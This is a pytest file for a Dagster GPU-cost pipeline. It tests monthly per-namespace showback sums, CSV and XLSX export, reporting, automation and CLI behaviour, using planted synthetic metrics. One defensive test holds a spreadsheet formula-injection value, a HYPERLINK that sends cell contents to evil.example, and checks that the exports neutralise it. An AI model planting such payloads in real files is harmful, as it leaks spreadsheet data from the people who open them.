"""namespace_monthly (issue 33, months): month x cluster x namespace showback from the days, on
monthly partitions mapped from the daily ones; the showback file; the CLI runs a late day's month.

The planted fleet (A100: $2.50 per GPU-hour, 400 W), days 2024-01-30, 01-31 and 02-01:
- cluster-a/ns1, GPU-A: 60 min of util 80 at 200 W (RFU 50) on Jan 30; 180 min of util 90 at
  320 W (RFU 80) on Jan 31; 60 min as on Jan 30 on Feb 1;
- cluster-b/ns1, GPU-B: 60 min of util 5 at 100 W (idle, RFU 25) on Jan 31;
- cluster-a/ns2, GPU-C: 30 min of util 95 at 320 W (RFU 80) on Jan 31.
"""

import csv
from datetime import UTC, date, datetime, timedelta

import dagster as dg
import polars as pl
import pytest
from helpers import MODELS, cli, cli_env, expo_lines, write_file

from gpu_pipeline.defs import marts, monthly, raw, staging
from gpu_pipeline.defs.resources import LakeResource, LandingResource, ReferenceResource
from gpu_pipeline.lib.io.lake import Lake
from gpu_pipeline.lib.io.showback import COLUMNS, write_showback
from gpu_pipeline.lib.marts.namespace_monthly import month_days, parse_month

JAN, FEB = date(2024, 1, 1), date(2024, 2, 1)
DAYS = [date(2024, 1, 30), date(2024, 1, 31), date(2024, 2, 1)]
DAILY = dg.load_assets_from_modules([raw, staging, marts])
A100 = MODELS["A100"]


def plant(raw_dir, days=DAYS) -> None:
    for d in days:
        a = b = []
        if d == DAYS[0] or d == DAYS[2]:
            a = expo_lines("GPU-A", A100, "a1", "ns1", d, range(600, 660), 80, 200.0)
        if d == DAYS[1]:
            a = expo_lines("GPU-A", A100, "a1", "ns1", d, range(600, 780), 90, 320.0)
            a += expo_lines("GPU-C", A100, "a1", "ns2", d, range(600, 630), 95, 320.0, gpu=1)
            b = expo_lines("GPU-B", A100, "b1", "ns1", d, range(600, 660), 5, 100.0)
        write_file(raw_dir / "cluster-a" / f"a1_{d}.prom", a)
        if b:
            write_file(raw_dir / "cluster-b" / f"b1_{d}.prom", b)


def resources(tmp) -> dict:
    return {
        "lake": LakeResource(root=str(tmp / "lake")),
        "landing": LandingResource(root=str(tmp / "raw")),
        "reference": ReferenceResource(),
    }


@pytest.fixture(scope="module")
def planted(tmp_path_factory):
    """The planted days materialized day by day, then their two months (in process)."""
    tmp = tmp_path_factory.mktemp("monthly")
    plant(tmp / "raw")
    instance = dg.DagsterInstance.ephemeral()
    for d in DAYS:
        res = dg.materialize(
            DAILY, partition_key=str(d), resources=resources(tmp), instance=instance
        )
        assert res.success
    for m in ("2024-01", "2024-02"):
        res = dg.materialize(
            [monthly.namespace_monthly],
            partition_key=m,
            resources=resources(tmp),
            instance=instance,
        )
        assert res.success
    return tmp, Lake(tmp / "lake"), res


def rows(lake: Lake, month: date) -> dict[tuple, dict]:
    df = lake.read("namespace_monthly", month)
    return {(r["cluster"], r["namespace"]): r for r in df.iter_rows(named=True)}


def test_the_months_of_the_planted_fleet_by_hand(planted):
    _, lake, _ = planted
    jan = rows(lake, JAN)
    assert set(jan) == {("cluster-a", "ns1"), ("cluster-a", "ns2"), ("cluster-b", "ns1")}
    a = jan[("cluster-a", "ns1")]
    assert a["month"] == "2024-01" and a["date"] == JAN and a["days_covered"] == 2
    assert a["gpu_hours"] == pytest.approx(4.0)
    # 1 h at $2.50: productive 0.5, stall 0.3, headroom 0.2; 3 h: 0.8, 0.1, 0.1
    assert a["cost_usd"] == pytest.approx(10.0)
    assert a["productive_usd"] == pytest.approx(1.25 + 6.0)
    assert a["stall_waste_usd"] == pytest.approx(0.75 + 0.75)
    assert a["headroom_waste_usd"] == pytest.approx(0.5 + 0.75)
    assert a["idle_waste_usd"] == pytest.approx(0.0, abs=1e-9)
    assert a["total_waste_usd"] == pytest.approx(2.75)
    # weighted by GPU-hours: (1 h x 50 + 3 h x 80) / 4 h, not the mean of the days' 50 and 80
    assert a["avg_rfu_pct"] == pytest.approx(72.5)
    assert a["energy_kwh"] == pytest.approx(0.2 + 0.96)  # 200 W x 1 h + 320 W x 3 h
    b = jan[("cluster-b", "ns1")]  # the same namespace in another cluster: a row of its own
    assert b["days_covered"] == 1 and b["gpu_hours"] == pytest.approx(1.0)
    assert b["idle_waste_usd"] == pytest.approx(2.5) == pytest.approx(b["total_waste_usd"])
    assert b["avg_rfu_pct"] == pytest.approx(25.0) and b["energy_kwh"] == pytest.approx(0.1)
    c = jan[("cluster-a", "ns2")]
    assert c["gpu_hours"] == pytest.approx(0.5) and c["cost_usd"] == pytest.approx(1.25)
    assert c["total_waste_usd"] == pytest.approx(0.25) and c["avg_rfu_pct"] == pytest.approx(80)
    assert c["energy_kwh"] == pytest.approx(0.16)
    feb = rows(lake, FEB)
    assert set(feb) == {("cluster-a", "ns1")}
    f = feb[("cluster-a", "ns1")]
    assert f["days_covered"] == 1 and f["month"] == "2024-02"
    assert f["cost_usd"] == pytest.approx(2.5) and f["avg_rfu_pct"] == pytest.approx(50.0)


def test_the_month_adds_up_to_its_days(planted):
    """GPU-hours and money are the days' priced_waste summed (to the cent and to 1e-12);
    energy summed over clusters is the days' namespace_efficiency energy."""
    _, lake, _ = planted
    for month in (JAN, FEB):
        days = [d for d in month_days(month) if lake.exists("priced_waste", d)]
        daily = lake.read_days("priced_waste", days)
        got = lake.read("namespace_monthly", month)
        for c in ("gpu_hours", "cost_usd", "idle_waste_usd", "stall_waste_usd", "total_waste_usd"):
            want = daily.group_by("cluster", "namespace").agg(pl.col(c).sum())
            both = got.join(want, on=["cluster", "namespace"], suffix="_days")
            assert both.height == got.height == want.height
            for g, w in both.select(c, f"{c}_days").iter_rows():
                assert g == pytest.approx(w, rel=1e-12) and round(g, 2) == round(w, 2), c
        eff = lake.read_days("namespace_efficiency", days)
        want = dict(eff.group_by("namespace").agg(pl.col("energy_kwh").sum()).iter_rows())
        have = dict(got.group_by("namespace").agg(pl.col("energy_kwh").sum()).iter_rows())
        assert have == pytest.approx(want, rel=1e-9)


def test_a_month_says_what_it_covers(planted):
    _, _, res = planted  # February's run
    (mat,) = res.get_asset_materialization_events()
    m = mat.materialization
    assert m.partition == "2024-02"
    meta = {k: getattr(v, "value", v) for k, v in m.metadata.items()}
    assert meta["days_covered"] == 1 and meta["days_in_month"] == 29
    assert meta["month_to_date"] is False and meta["days"] == "2024-02-01..2024-02-01"
    assert meta["dagster/row_count"] == 1


def test_rematerializing_a_month_gives_identical_bytes(planted):
    tmp, lake, _ = planted
    path = lake.partition_file("namespace_monthly", JAN)
    before = path.read_bytes()
    res = dg.materialize(
        [monthly.namespace_monthly], partition_key="2024-01", resources=resources(tmp)
    )
    assert res.success and path.read_bytes() == before


def test_the_showback_file_csv_and_xlsx(planted, tmp_path):
    _, lake, _ = planted
    df, about = write_showback(lake, JAN, "csv", tmp_path / "jan.csv")
    assert about["days_in_lake"] == 2 and about["days_in_month"] == 31
    with open(tmp_path / "jan.csv") as f:
        got = list(csv.DictReader(f))
    assert list(got[0]) == list(COLUMNS)
    a = next(r for r in got if r["cluster"] == "cluster-a" and r["namespace"] == "ns1")
    assert (a["cost_usd"], a["total_waste_usd"], a["avg_rfu_pct"]) == ("10.0", "2.75", "72.5")
    assert a["stall_waste_usd"] == "1.5" and a["energy_kwh"] == "1.16"

    import openpyxl

    write_showback(lake, JAN, "xlsx", tmp_path / "jan.xlsx")
    wb = openpyxl.load_workbook(tmp_path / "jan.xlsx")
    sheet = wb["showback"]
    table = [list(r) for r in sheet.iter_rows(values_only=True)]
    assert table[0] == list(COLUMNS) and len(table) == 4
    by = {(r[1], r[2]): dict(zip(COLUMNS, r, strict=True)) for r in table[1:]}
    b = by[("cluster-b", "ns1")]
    assert b["idle_waste_usd"] == 2.5 and b["days_covered"] == 1 and b["avg_rfu_pct"] == 25.0
    assert by[("cluster-a", "ns1")]["cost_usd"] == 10.0
    about_rows = dict(wb["about"].iter_rows(min_row=2, values_only=True))
    assert about_rows["days in the lake"] == "2 of 31" and about_rows["month to date"] == "no"


def test_a_label_that_reads_as_a_formula_stays_text_in_the_showback_files(tmp_path):
    """Labels are other people's text: a namespace `=HYPERLINK(...)` was written as a formula
    cell of the workbook, run when it is opened (adversarial review). The workbook keeps it a
    string; the CSV gives it a leading `'`, which a spreadsheet shows as text."""
    import zipfile

    import openpyxl

    from gpu_pipeline.lib.io.showback import write_csv, write_xlsx

    evil = '=HYPERLINK("http://evil.example/?"&A1,"click")'
    row = {c: 1.0 for c in COLUMNS} | {"month": "2024-01", "days_covered": 1}
    df = pl.DataFrame(
        [row | {"cluster": "-c", "namespace": evil}, row | {"cluster": "c", "namespace": "ns"}]
    ).select(COLUMNS)
    about = {"month": "2024-01", "month_to_date": False, "days_in_lake": 1, "days_in_month": 31}
    write_xlsx(df, about | {"first_day": "", "last_day": ""}, tmp_path / "x.xlsx")
    sheet = zipfile.ZipFile(tmp_path / "x.xlsx").read("xl/worksheets/sheet1.xml").decode()
    assert "<f>" not in sheet
    cells = [r[2] for r in openpyxl.load_workbook(tmp_path / "x.xlsx")["showback"].values]
    assert cells == ["namespace", evil, "ns"]
    write_csv(df, tmp_path / "x.csv")
    with open(tmp_path / "x.csv") as f:
        got = [(r["cluster"], r["namespace"]) for r in csv.DictReader(f)]
    assert got == [("'-c", "'" + evil), ("c", "ns")]


def test_the_report_has_a_month_to_date_line_per_namespace(planted):
    import re

    from gpu_pipeline.lib.io.report import build_report

    _, lake, _ = planted
    html = build_report(lake, DAYS[1]).html
    section = html[html.index("<h2>Month to date</h2>") :]
    assert "January 2024 from 2024-01-01 to 2024-01-31: 2 days of it in the lake" in section
    text = re.sub(r"<[^>]+>", "|", section)
    cells = [c.strip() for c in text.split("|") if c.strip()]
    # ns1 all clusters together: 4 h on cluster-a + 1 h on cluster-b, $12.50, waste $5.25,
    # 1.16 + 0.1 kWh, RFU (1 x 50 + 3 x 80 + 1 x 25) / 5 = 63
    i = cells.index("ns1")
    assert cells[i : i + 7] == ["ns1", "2", "5.0", "$12.50", "$5.25", "1.3", "63.0"], cells[i:]
    assert "cost $/day" not in section[: section.index("</table>")]


def test_definitions_wire_the_months_to_the_days():
    from gpu_pipeline.definitions import defs

    graph = defs.resolve_asset_graph()
    node = graph.get(dg.AssetKey("namespace_monthly"))
    assert isinstance(node.partitions_def, dg.MonthlyPartitionsDefinition)
    assert node.partitions_def.get_first_partition_key() == "2024-01"
    # the month to date exists (end_offset=1) and reads only the days that exist so far
    this_month = datetime.now(UTC).strftime("%Y-%m")
    assert node.partitions_def.get_last_partition_key() == this_month
    assert {k.to_user_string() for k in node.parent_keys} == {"priced_waste", "gpu_minutes"}
    daily = defs.resolve_job_def("daily_pipeline")
    assert dg.AssetKey("namespace_monthly") not in daily.asset_layer.selected_asset_keys
    job = defs.resolve_job_def("namespace_monthly_job")
    assert job.partitions_def == node.partitions_def
    assert "monthly_automation_sensor" in {s.name for s in defs.sensors}


def test_a_ui_backfill_of_days_brings_their_months_along():
    """What the UI's backfill of days does with a selection that holds the month (as
    "Materialize all"): the months of those days are targeted, after their days."""
    from dagster._core.execution.asset_backfill import AssetBackfillData

    from gpu_pipeline.definitions import defs

    graph = defs.resolve_asset_graph()
    selection = [k for k in graph.get_all_asset_keys() if graph.get(k).is_partitioned]
    with dg.DagsterInstance.ephemeral() as instance:
        data = AssetBackfillData.from_asset_partitions(
            asset_graph=graph,
            partition_names=[str(d) for d in DAYS],
            asset_selection=selection,
            dynamic_partitions_store=instance,
            backfill_start_timestamp=datetime.now(UTC).timestamp(),
            all_partitions=False,
        )
    months = data.target_subset.get_partitions_subset(dg.AssetKey("namespace_monthly"))
    assert sorted(months.get_partition_keys()) == ["2024-01", "2024-02"]


def test_a_late_day_makes_its_month_run_again_under_automation():
    """The monthly automation condition: nothing at first, then the month of a day written."""
    from gpu_pipeline.definitions import defs

    graph_assets = [
        dg.AssetSpec(k, partitions_def=defs.resolve_assets_def(k).partitions_def)
        for k in ("priced_waste", "gpu_minutes")
    ]
    assets = dg.Definitions(
        assets=[*graph_assets, monthly.namespace_monthly],
        resources={"lake": LakeResource(root="unused")},
    )
    with dg.DagsterInstance.ephemeral() as instance:
        first = dg.evaluate_automation_conditions(defs=assets, instance=instance)
        assert first.total_requested == 0
        instance.report_runless_asset_event(
            dg.AssetMaterialization("priced_waste", partition="2024-01-31")
        )
        second = dg.evaluate_automation_conditions(
            defs=assets, instance=instance, cursor=first.cursor
        )
        # January only: February's days were not written
        assert second.get_requested_partitions(dg.AssetKey("namespace_monthly")) == {"2024-01"}


def test_the_cli_runs_a_late_days_month_again(tmp_path):
    """`gpu-pipeline materialize` of a day runs its month; a late day (Jan 30, after Jan 31 and
    Feb 1) makes January again from both its days; `showback` writes it."""
    plant(tmp_path / "raw")
    env = cli_env(tmp_path)
    lake = tmp_path / "lake"
    args = ["--raw", str(tmp_path / "raw"), "--lake", str(lake)]
    out = cli("materialize", "--start", str(DAYS[1]), "--end", str(DAYS[2]), *args, env=env)
    assert "months 2024-01, 2024-02: namespace_monthly written" in out.stdout, out.stdout
    before = rows(Lake(lake), JAN)[("cluster-a", "ns1")]
    assert before["days_covered"] == 1 and before["gpu_hours"] == pytest.approx(3.0)
    cli("materialize", "--start", str(DAYS[0]), *args, env=env)
    after = rows(Lake(lake), JAN)[("cluster-a", "ns1")]
    assert after["days_covered"] == 2 and after["gpu_hours"] == pytest.approx(4.0)
    assert after["avg_rfu_pct"] == pytest.approx(72.5)
    assert rows(Lake(lake), FEB)[("cluster-a", "ns1")]["days_covered"] == 1
    out = cli("showback", "--month", "2024-01", "--lake", str(lake), env=env)
    assert "3 rows; 2024-01: 2 of 31 days" in out.stdout, out.stdout
    assert (lake / "_reports" / "showback_2024-01.csv").is_file()
    # the views file has the table, partitioned like the others
    q = "SELECT month, round(sum(cost_usd), 2) FROM namespace_monthly GROUP BY 1 ORDER BY 1"
    out = cli("sql", q, "--lake", str(lake), "--format", "csv", env=env)
    assert out.stdout.splitlines()[1:] == ["2024-01,13.75", "2024-02,2.5"], out.stdout


def test_showback_refuses_in_one_line(tmp_path):
    env = cli_env(tmp_path)
    (tmp_path / "lake").mkdir()
    p = cli(
        "showback", "--month", "2024-01", "--lake", str(tmp_path / "lake"), env=env, check=False
    )
    assert p.returncode == 2 and p.stdout.startswith("error: no namespace_monthly for 2024-01")
    assert len(p.stdout.strip().splitlines()) == 1 and "Traceback" not in p.stderr
    p = cli("showback", "--month", "2024-13", env=env, check=False)
    assert p.returncode == 2 and "not a month (YYYY-MM): '2024-13'" in p.stderr


def test_month_helpers():
    assert parse_month("2024-02") == FEB and len(month_days(FEB)) == 29
    assert month_days(date(2024, 12, 15))[-1] == date(2024, 12, 31)
    assert month_days(JAN)[0] + timedelta(days=30) == date(2024, 1, 31)
